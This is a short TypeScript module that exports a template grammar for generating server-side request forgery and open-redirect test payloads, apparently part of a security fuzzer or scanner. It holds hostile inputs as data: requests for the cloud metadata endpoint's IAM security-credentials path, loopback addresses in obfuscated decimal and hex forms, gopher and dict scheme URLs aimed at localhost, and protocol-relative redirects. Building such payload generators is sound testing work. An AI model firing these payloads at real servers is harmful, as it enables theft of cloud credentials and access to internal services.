/** Server-side request forgery and open redirects. */
export const SSRF = String.raw`
ssrf/metadata 3: http://169.254.169.254/latest/meta-data/‹¦iam/security-credentials/›
ssrf/local 3: http://‹127.0.0.1¦localhost¦[::1]¦0.0.0.0¦2130706433¦0x7f000001¦127.1›‹¦:‹port››/‹word›
ssrf/scheme 2: ‹gopher¦dict¦ftp¦tftp¦ldap›://‹127.0.0.1¦localhost›:‹port›/‹rnd›
ssrf/redirect 2: //‹host›/‹word›
`
